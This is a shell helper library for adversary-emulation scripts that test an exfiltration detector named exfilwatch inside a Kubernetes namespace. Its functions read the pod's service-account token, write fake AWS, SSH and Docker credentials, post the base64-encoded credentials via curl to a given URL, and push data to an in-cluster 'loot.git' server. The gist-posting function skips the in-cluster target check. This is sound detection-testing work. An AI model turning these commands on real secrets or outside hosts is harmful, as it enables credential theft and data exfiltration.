# shellcheck shell=sh
# Shared helpers for the exfilwatch adversary emulation scripts. Sourced by each script, never run alone.
#
# Everything here is deliberately harmless:
#   - the "data" is random bytes generated on the spot (head -c ... /dev/urandom);
#   - the "secrets" are obviously fake strings containing EXAMPLE / FAKE;
#   - the targets are the git server and registry of the exfilwatch-emulation namespace, and
#     emu_check_target refuses anything that is not an in-cluster or loopback address unless
#     EMU_ALLOW_EXTERNAL=1 is set on purpose.

: "${EMU_NAMESPACE:=exfilwatch-emulation}"
: "${EMU_GIT_HOST:=git-server.${EMU_NAMESPACE}.svc.cluster.local}"
: "${EMU_GIT_URL:=git://${EMU_GIT_HOST}/loot.git}"
: "${EMU_GIT_SSH_URL:=ssh://git@${EMU_GIT_HOST}:22/loot.git}"
: "${EMU_REGISTRY:=registry.${EMU_NAMESPACE}.svc.cluster.local:5000}"
: "${EMU_FORGE_URL:=http://forge-api.${EMU_NAMESPACE}.svc.cluster.local:8080}"
: "${EMU_WORKDIR:=/tmp/exfilwatch-emulation}"
: "${EMU_ALLOW_EXTERNAL:=0}"
: "${HOME:=/tmp}"
export HOME

emu_log() {
  printf '[emulation %s] %s\n' "$(date -u +%H:%M:%S)" "$*" >&2
}

emu_die() {
  emu_log "ERROR: $*"
  exit 1
}

# emu_need TOOL...: every tool must be on PATH (the README says which image has them).
emu_need() {
  for emu_tool in "$@"; do
    command -v "$emu_tool" >/dev/null 2>&1 || emu_die "$emu_tool not found: run this script in an image that has it (see README.md)"
  done
}

# emu_check_target HOST[:PORT][/PATH]: refuse targets outside the cluster unless explicitly allowed.
emu_check_target() {
  emu_host=${1#*://}
  emu_host=${emu_host%%/*}
  emu_host=${emu_host##*@}
  emu_host=${emu_host%:*}
  case "$emu_host" in
    *.svc.cluster.local | *.svc | localhost | 127.* | 10.* | 192.168.*) return 0 ;;
  esac
  [ "$EMU_ALLOW_EXTERNAL" = 1 ] && return 0
  emu_die "refusing target '$1': not an in-cluster address (set EMU_ALLOW_EXTERNAL=1 if you really mean it)"
}

# emu_dummy_files DIR COUNT TOTAL_MIB: COUNT files of random bytes totalling about TOTAL_MIB MiB.
emu_dummy_files() {
  mkdir -p "$1"
  emu_kib=$(($3 * 1024 / $2))
  emu_i=1
  while [ "$emu_i" -le "$2" ]; do
    head -c "$((emu_kib * 1024))" /dev/urandom >"$1/export-$(printf '%03d' "$emu_i").bin"
    emu_i=$((emu_i + 1))
  done
  emu_log "generated $2 dummy files (~$3 MiB of random bytes) in $1"
}

# emu_fake_secrets DIR: credentials-shaped files whose values are obviously fake.
emu_fake_secrets() {
  mkdir -p "$1/.aws" "$1/.ssh" "$1/.docker"
  cat >"$1/.aws/credentials" <<'EOF'
[default]
aws_access_key_id = AKIAIOSFODNN7EXAMPLE
aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
EOF
  cat >"$1/.ssh/id_ed25519" <<'EOF'
-----BEGIN OPENSSH PRIVATE KEY-----
FAKE-KEY-FOR-EXFILWATCH-EMULATION-ONLY-THIS-IS-NOT-A-REAL-KEY
-----END OPENSSH PRIVATE KEY-----
EOF
  chmod 600 "$1/.ssh/id_ed25519"
  printf '{"auths":{"%s":{"auth":"ZmFrZTpmYWtl"}}}\n' "$EMU_REGISTRY" >"$1/.docker/config.json"
  emu_log "wrote obviously fake credentials under $1"
}

# emu_post_fake_aws_gist WORKDIR URL: the fake AWS credentials under $HOME (emu_fake_secrets) read and posted
# as a secret gist to URL, with a fake token.
emu_post_fake_aws_gist() {
  emu_content=$(base64 "$HOME/.aws/credentials" | tr -d '\n')
  printf '{"files":{"x":{"content":"%s"}},"public":false}' "$emu_content" >"$1/g.json"
  emu_log "posting the fake credentials to $2"
  emu_retry 12 curl -fsS -o /dev/null -X POST -H "Authorization: Bearer ghp_FAKEEXAMPLETOKEN000000000000000000" \
    --data-binary "@$1/g.json" "$2"
}

# emu_read_sa_token: reads the pod's real service-account token (the read is what exfilwatch flags; the
# scripts never send it, only a placeholder).
emu_read_sa_token() {
  emu_token=/var/run/secrets/kubernetes.io/serviceaccount/token
  [ -r "$emu_token" ] || emu_die "no service-account token mounted at $emu_token (automountServiceAccountToken: true is needed)"
  cat "$emu_token" >/dev/null
}

# emu_big_file PATH MIB: one file of MIB MiB of random bytes.
emu_big_file() {
  mkdir -p "$(dirname "$1")"
  head -c "$(($2 * 1024 * 1024))" /dev/urandom >"$1"
}

# emu_read_all DIR: reads every file under DIR (what an attacker's cat/cp/tar does first).
emu_read_all() {
  find "$1" -type f -exec cat {} + >/dev/null
}

# emu_git_init DIR: a fresh repository with a throwaway identity.
emu_git_init() {
  git init -q "$1"
  git -C "$1" config user.email emulation@example.invalid
  git -C "$1" config user.name "exfilwatch emulation"
}

# emu_git_push REPO [URL] [GIT]: pushes HEAD of REPO to a fresh branch on URL (default: the in-namespace
# git server), optionally with another git binary (the renamed-binary scenarios).
emu_git_push() {
  emu_url=${2:-$EMU_GIT_URL}
  emu_git=${3:-git}
  emu_check_target "$emu_url"
  emu_branch="emulation/$(basename "$0" .sh)-$(date +%s)"
  emu_log "push to $emu_url ($emu_branch)"
  emu_retry 12 "$emu_git" -C "$1" push -q "$emu_url" "HEAD:refs/heads/$emu_branch"
}

# emu_retry N CMD...: the in-namespace servers may still be starting when the Job begins.
emu_retry() {
  emu_tries=$1
  shift
  emu_n=1
  until "$@"; do
    [ "$emu_n" -ge "$emu_tries" ] && return 1
    emu_log "attempt $emu_n failed; retrying in 5 s"
    emu_n=$((emu_n + 1))
    sleep 5
  done
}

# emu_expect RULE SEVERITY: the alert exfilwatch should raise for this container (printed for the operator).
emu_expect() {
  emu_log "done. expected alert: rule=$1 severity=$2 for pod ${POD_NAME:-$(hostname)} (container ${CONTAINER_NAME:-?})"
}
